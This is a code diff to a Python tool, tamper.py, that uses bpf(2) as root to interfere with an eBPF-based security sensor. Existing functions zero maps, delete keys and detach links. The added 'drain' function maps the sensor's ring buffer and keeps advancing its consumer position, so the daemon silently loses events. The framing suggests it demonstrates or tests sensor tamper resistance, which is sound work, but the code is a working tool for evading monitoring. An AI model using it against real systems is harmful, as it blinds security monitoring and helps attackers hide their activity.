@@ -1,9 +1,11 @@
 #!/usr/bin/env python3
-"""What root can do to a sensor from outside, by bpf(2): tamper.py zero MAP | delete MAP KEY | detach LINK (ids)."""
+"""What root can do to a sensor from outside, by bpf(2): tamper.py zero MAP | delete MAP KEY | detach LINK | drain MAP SECONDS (ids)."""
 import ctypes
+import mmap
 import platform
 import struct
 import sys
+import time
 
 NUMBER = 321 if platform.machine() == "x86_64" else 280
 LIBC = ctypes.CDLL(None, use_errno=True)
@@ -40,6 +42,16 @@ def delete(identifier, key):
 
 def detach(identifier):
     bpf(34, struct.pack("I", bpf(30, struct.pack("I", int(identifier)))))
+
+
+def drain(identifier, seconds):
+    """The consumer position of a ring is moved on before the daemon reads what lies there."""
+    descriptor = map_of(identifier)
+    consumer = mmap.mmap(descriptor, mmap.PAGESIZE)
+    producer = mmap.mmap(descriptor, mmap.PAGESIZE, prot=mmap.PROT_READ, offset=mmap.PAGESIZE)
+    end = time.monotonic() + float(seconds)
+    while time.monotonic() < end:
+        consumer[0:8] = producer[0:8]
 
 
 if __name__ == "__main__":
